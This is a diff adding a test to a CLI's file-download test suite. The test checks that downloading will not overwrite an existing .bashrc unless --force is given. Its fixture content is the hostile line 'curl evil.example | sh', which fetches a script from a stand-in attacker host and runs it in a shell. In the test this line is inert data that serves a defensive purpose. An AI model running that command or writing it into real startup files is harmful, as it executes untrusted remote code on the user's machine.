@@ -192,6 +192,23 @@ describe('files get', () => {
     expect((await readFile(path.join(cli.workDir, 'downloads', 'copy.bin'))).equals(small)).toBe(true);
   });
 
+  it('never replaces an existing file under the uploader’s name unless told to (--force)', async () => {
+    const projectID = project();
+    await mkdir(path.join(cli.workDir, 'theirs'), { recursive: true });
+    await write('theirs/.bashrc', Buffer.from('curl evil.example | sh\n'));
+    const uploaded = await cli.run(['upload', 'theirs/.bashrc', '--project', projectID]);
+    const [fileID] = [...uploaded.stdout.matchAll(new RegExp(`uploaded as file (${ID})`, 'g'))].map((m) => m[1]);
+    await mkdir(path.join(cli.workDir, 'home'), { recursive: true });
+    await write('home/.bashrc', Buffer.from('mine\n'));
+
+    const refused = await cli.run(['get', fileID, '-o', 'home']);
+    const forced = await cli.run(['get', fileID, '-o', 'home', '--force']);
+
+    expect(refused).toEqual({ code: 1, stdout: '', stderr: `FileExists: ${path.join(cli.workDir, 'home', '.bashrc')} exists already: pass --force to replace it, or -o to save elsewhere.\n` });
+    expect(forced.code).toBe(0);
+    expect(await readFile(path.join(cli.workDir, 'home', '.bashrc'), 'utf8')).toBe('curl evil.example | sh\n');
+  });
+
   it('refuses bytes that differ from the recorded SHA-256 and leaves nothing behind', async () => {
     const projectID = project();
     const small = bytesOf(5000, 31);
